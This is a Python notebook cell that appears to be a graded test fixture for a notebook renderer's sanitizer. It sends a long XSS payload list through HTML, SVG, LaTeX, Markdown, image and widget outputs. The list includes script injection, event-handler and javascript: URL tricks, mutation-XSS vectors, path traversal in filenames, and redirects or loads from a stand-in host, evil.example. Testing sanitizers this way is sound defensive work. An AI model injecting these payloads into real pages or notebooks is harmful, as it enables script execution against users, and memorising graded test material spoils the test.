"""Displays scripts in HTML, SVG, JavaScript, LaTeX, Markdown, JSON, widgets and pictures.

Expect: graded
Proof: tried all of it
Proof: () ValueError: <script>
"""

# %% before
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

live = """<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="//evil.example">
</iframe><a href="javascript:alert(1)">a</a><a href=" &#14;java&Tab;script:alert(1)">b</a>
<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>c</text></a><script>1</script></svg>
<form action="//evil.example"><input autofocus onfocus=alert(1)><button formaction="javascript:1">
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example/x.swf">
<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example/y.css";</style>
<div style="position:fixed;inset:0;background:url(//evil.example/z.png)" onclick=alert(1)>d</div>
<video src="//evil.example/v"><audio src=x onerror=alert(1)><details ontoggle=alert(1) open>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>1</script>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea><img src="http://evil.example/i">
$\\href{javascript:alert(1)}{m}$ $&#92;href{javascript:alert(1)}{n}$ $\\hr&#101;f{javascript:1}{o}$
$&bsol;href{javascript:1}{p}$ $\\mmlToken{mi}[href="javascript:alert(1)"]{q}$ $\\style{x}{y}$"""
display(HTML(live), SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
display(Javascript("alert(1)"), Latex(live), Markdown(live))
for mime in ("text/html", "image/svg+xml", "application/javascript", "text/latex", "text/plain"):
    display({mime: live, "text/x-other": live}, raw=True, metadata={mime: {"isolated": True}})
for mime in ("image/png", "image/jpeg", "image/gif", "application/pdf"):
    display({mime: 'AAAA" onerror="alert(1)" x="'}, raw=True)
    size = {"width": '1" onload="alert(1)', "alt": '"><script>alert(1)</script>'}
    display({mime: "AAAA"}, metadata={mime: size, "filenames": {mime: "../../x"}}, raw=True)
    display({mime: ["AAAA", '"><script>alert(1)</script>']}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>1"}}, raw=True)
display({"text/html": [live]}, raw=True)
print(live, "\x1b[31m<script>alert(1)</script>\x1b]8;;javascript:alert(1)\x07link")
print("tried all of it")
raise ValueError(live)
